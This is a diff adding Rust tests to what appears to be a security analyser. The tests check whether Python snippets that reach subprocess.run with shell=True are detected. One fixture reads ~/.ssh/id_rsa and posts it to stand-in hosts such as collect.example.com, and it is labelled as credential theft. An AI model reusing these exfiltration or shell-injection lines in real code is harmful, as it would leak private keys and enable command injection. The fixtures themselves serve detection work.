@@ -506,3 +506,92 @@ fn what_is_only_written_otherwise_is_the_same() {
         holds(In::Script, &[(SHELL, run.as_str())]);
     }
 }
+
+/// What a loop leaves for its next round, and for what stands behind it.
+#[test]
+fn a_loop_is_gone_through_more_than_once() {
+    const SHELL: &[&str] = &["shell-execution"];
+    let run = "\nsubprocess.run(line, shell=True, timeout=3, stdin=subprocess.DEVNULL)";
+    let rows: Vec<(&[&str], String)> = vec![
+        (
+            SHELL,
+            format!(
+                "\nline = \"\"\nit = iter(value.split())\nwhile True:\n    part = next(it, None)\n    if part is None:\n        break\n    line += part{run}"
+            ),
+        ),
+        (
+            SHELL,
+            format!(
+                "\nline = before = \"\"\nfor part in value.split():\n    line = before\n    before = part{run}"
+            ),
+        ),
+        (
+            SHELL,
+            format!(
+                "\nline = before = \"\"\nwhile len(line) < 9:\n    line = before\n    before = value{run}"
+            ),
+        ),
+        (
+            NOTHING,
+            format!(
+                "\nline = before = \"date\"\nfor part in value.split():\n    line = before\n    before = \"date\"{run}"
+            ),
+        ),
+    ];
+    let rows: Vec<(&[&str], &str)> =
+        rows.iter().map(|(told, body)| (*told, body.as_str())).collect();
+    holds(In::Python, &rows);
+}
+
+/// What is not followed to its end is said, and passes nothing.
+#[test]
+fn what_is_too_deep_or_too_much_is_said() {
+    let chain: String = (0..30)
+        .map(|at| {
+            format!(
+                "\n    def f{at}(it):\n        return {}",
+                match at {
+                    29 => "subprocess.run(it, shell=True, timeout=3)".to_owned(),
+                    _ => format!("f{}(it)", at + 1),
+                }
+            )
+        })
+        .collect();
+    let deep =
+        evidence(In::Python, &format!("{}\nreturn f0(value)", chain.replace("\n    ", "\n")));
+    let source = deep.source.expect("source");
+    assert!(
+        source.flows.is_empty()
+            && source.left_out.iter().any(|it| it.why.contains("more functions than are followed")),
+        "{:?}",
+        source.left_out
+    );
+    let many: String =
+        (0..5_100).map(|at| format!("\nopen(\"/srv/\" + str(int(value)) + \"{at}\")")).collect();
+    let much =
+        evidence(In::Python, &format!("{many}\nsubprocess.run(value, shell=True, timeout=3)"));
+    let source = much.source.expect("source");
+    assert!(
+        source.left_out.iter().any(|it| it.why.contains("than is kept")),
+        "{:?}",
+        source.left_out
+    );
+}
+
+/// A name that begins like this machine's is another machine's.
+#[test]
+fn only_this_machine_is_this_machine() {
+    let take = |to: &str| {
+        format!(
+            "\ntext = open(os.path.expanduser(\"~/.ssh/id_rsa\")).read()\nimport requests\nrequests.post(\"{to}\", data=text, timeout=9)"
+        )
+    };
+    let rows: Vec<(&[&str], String)> = vec![
+        (&["takes-credentials"], take("https://localhost.example.com/c")),
+        (&["takes-credentials"], take("https://collect.example.com/c?r=://localhost")),
+        (NOTHING, take("http://localhost:80/c")),
+    ];
+    let rows: Vec<(&[&str], &str)> =
+        rows.iter().map(|(told, body)| (*told, body.as_str())).collect();
+    holds(In::Python, &rows);
+}
